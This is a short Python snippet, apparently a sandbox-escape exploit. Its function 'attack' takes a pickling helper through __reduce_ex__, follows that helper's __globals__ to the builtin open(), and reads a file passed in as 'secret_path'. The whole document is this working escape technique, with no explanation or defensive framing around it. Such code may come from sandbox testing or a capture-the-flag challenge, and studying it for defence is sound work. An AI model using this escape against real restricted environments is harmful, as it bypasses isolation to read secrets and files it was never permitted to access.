# Takes a function of the library from the protocol for copies.
def attack(n, secret_path):
    class Empty:
        pass

    rebuild = Empty().__reduce_ex__(2)[0]
    return rebuild.__globals__["__builtins__"]["open"](secret_path).read()
